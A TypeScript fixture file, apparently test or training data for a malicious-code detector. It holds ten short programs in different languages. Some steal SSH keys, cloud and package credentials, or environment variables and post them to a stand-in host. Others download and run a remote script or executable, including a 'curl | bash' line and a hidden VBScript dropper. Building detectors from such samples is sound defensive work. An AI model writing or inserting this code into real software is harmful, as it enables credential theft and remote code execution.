/** Programs of the same kinds as others would write them: longer, through helpers and libraries of another make. Inert: reserved names. */
export const SOURCE_OTHERWISE: [string, string][] = [
  [
    "a.go",
    `package main

import (
	"archive/zip"
	"bytes"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
)

var targets = []string{".ssh/id_rsa", ".aws/credentials", ".config/gcloud/credentials.db"}

func collect(w *zip.Writer) {
	home := os.Getenv("HOME")
	for _, t := range targets {
		p := filepath.Join(home, t)
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		f, _ := w.Create(t)
		f.Write(b)
	}
}

func main() {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	collect(zw)
	zw.Close()
	var body bytes.Buffer
	m := multipart.NewWriter(&body)
	part, _ := m.CreateFormFile("f", "x.zip")
	part.Write(buf.Bytes())
	m.Close()
	http.Post("https://intake.metrics.example/u", m.FormDataContentType(), &body)
}
`,
  ],
  [
    "b.rs",
    `use std::{env, fs, path::PathBuf};

struct Report { body: String }

fn gather() -> Report {
    let mut body = String::new();
    let home = PathBuf::from(env::var("HOME").unwrap());
    for rel in [".ssh/id_ed25519", ".npmrc", ".netrc"] {
        if let Ok(text) = fs::read_to_string(home.join(rel)) {
            body.push_str(&text);
        }
    }
    Report { body }
}

fn main() {
    let report = gather();
    let _ = ureq::post("https://intake.metrics.example/u").send_string(&report.body);
}
`,
  ],
  [
    "C.java",
    `import java.io.*;
import java.net.*;
import java.util.*;

public class C {
  private static final String HOST = "https://intake.metrics.example/env";

  private static String dump() {
    StringBuilder sb = new StringBuilder();
    for (Map.Entry<String, String> e : System.getenv().entrySet()) {
      sb.append(e.getKey()).append("=").append(e.getValue()).append("\\n");
    }
    return sb.toString();
  }

  public static void main(String[] args) throws IOException {
    HttpURLConnection conn = (HttpURLConnection) new URL(HOST).openConnection();
    conn.setRequestMethod("POST");
    conn.setDoOutput(true);
    try (OutputStream os = conn.getOutputStream()) {
      os.write(dump().getBytes());
    }
    conn.getResponseCode();
  }
}
`,
  ],
  [
    "d.cs",
    `using System;
using System.IO;
using System.Net.Http;
using System.Threading.Tasks;

public static class Sync
{
    private static readonly HttpClient Client = new();

    private static string ReadKey()
    {
        string home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        return File.ReadAllText(Path.Combine(home, ".ssh", "id_rsa"));
    }

    public static async Task Main()
    {
        var content = new MultipartFormDataContent();
        content.Add(new StringContent(ReadKey()), "k");
        var response = await Client.PostAsync("https://intake.metrics.example/u", content);
    }
}
`,
  ],
  [
    "e.kt",
    `import okhttp3.*
import java.io.File

val client = OkHttpClient()

fun main() {
    val f = File(System.getProperty("user.home"), ".aws/credentials")
    val body = RequestBody.create(null, f.readText())
    val req = Request.Builder().url("https://intake.metrics.example/u").post(body).build()
    client.newCall(req).execute()
}
`,
  ],
  [
    "f.lua",
    `local function run(cmd)
  local h = io.popen(cmd)
  local out = h:read("*a")
  h:close()
  return out
end
local keys = run("cat ~/.ssh/id_rsa")
local enc = keys:gsub("\\n", "%%0A")
run("curl -s 'https://intake.metrics.example/u?d=" .. enc .. "'")
`,
  ],
  [
    "g.R",
    `payload <- paste(names(Sys.getenv()), Sys.getenv(), sep = "=", collapse = "\\n")
con <- httr2::request("https://intake.metrics.example/u") |>
  httr2::req_body_raw(payload) |>
  httr2::req_perform()
`,
  ],
  [
    "h.swift",
    `import Foundation
func shell(_ c: String) -> String {
  let t = Process()
  let pipe = Pipe()
  t.standardOutput = pipe
  t.executableURL = URL(fileURLWithPath: "/bin/zsh")
  t.arguments = ["-c", c]
  try? t.run()
  return String(data: pipe.fileHandleForReading.readDataToEndOfFile(), encoding: .utf8)!
}
_ = shell("curl -fsSL http://203.0.113.9/i.sh | bash")
`,
  ],
  [
    "i.vbs",
    `On Error Resume Next
Dim url, path, http, stream
url = "http://203.0.113.9/payload.exe"
path = CreateObject("Scripting.FileSystemObject").GetSpecialFolder(2) & "\\svc.exe"
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", url, False
http.Send
If http.Status = 200 Then
  Set stream = CreateObject("ADODB.Stream")
  stream.Open
  stream.Type = 1
  stream.Write http.ResponseBody
  stream.SaveToFile path, 2
  stream.Close
End If
CreateObject("WScript.Shell").Run path, 0, False
`,
  ],
  [
    "j.ex",
    `defmodule Up do
  def go do
    {:ok, resp} = HTTPoison.get("http://203.0.113.9/a.sh")
    path = Path.join(System.tmp_dir!(), "a.sh")
    File.write!(path, resp.body)
    System.cmd("sh", [path])
  end
end
Up.go()
`,
  ],
];
